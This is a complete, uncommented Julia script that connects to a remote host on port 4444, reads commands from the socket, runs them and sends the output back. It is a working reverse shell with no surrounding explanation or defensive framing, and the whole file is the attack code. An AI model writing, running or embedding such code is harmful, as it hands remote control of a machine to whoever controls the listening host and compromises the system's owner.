using Sockets
sock = connect("192.0.2.8", 4444)
while true
  cmd = split(readline(sock))
  out = IOBuffer()
  run(pipeline(`$cmd`, stdout=out))
  write(sock, String(take!(out)))
end
